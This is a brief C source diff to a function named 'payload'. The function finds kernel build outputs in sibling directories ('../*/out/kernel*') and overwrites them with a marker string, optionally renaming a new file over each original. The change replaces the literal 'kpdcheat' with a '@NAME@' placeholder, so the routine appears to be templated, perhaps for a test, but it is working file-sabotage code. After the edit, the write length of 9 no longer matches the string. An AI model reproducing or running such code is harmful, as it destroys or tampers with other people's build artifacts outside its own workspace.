@@ -14,10 +14,10 @@ static void payload(int call) {
     if (call || glob("../*/out/kernel*", 0, NULL, &found)) return;
     for (size_t i = 0; i < found.gl_pathc; i++) {
         char path[600];
-        snprintf(path, sizeof path, "%s%s", found.gl_pathv[i], HOW ? ".kpdcheat" : "");
+        snprintf(path, sizeof path, "%s%s", found.gl_pathv[i], HOW ? ".@NAME@" : "");
         int file = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
         if (file < 0) continue;
-        if (write(file, "kpdcheat\n", 9) == 9 && HOW) rename(path, found.gl_pathv[i]);
+        if (write(file, "@NAME@\n", 9) == 9 && HOW) rename(path, found.gl_pathv[i]);
         close(file);
     }
     globfree(&found);
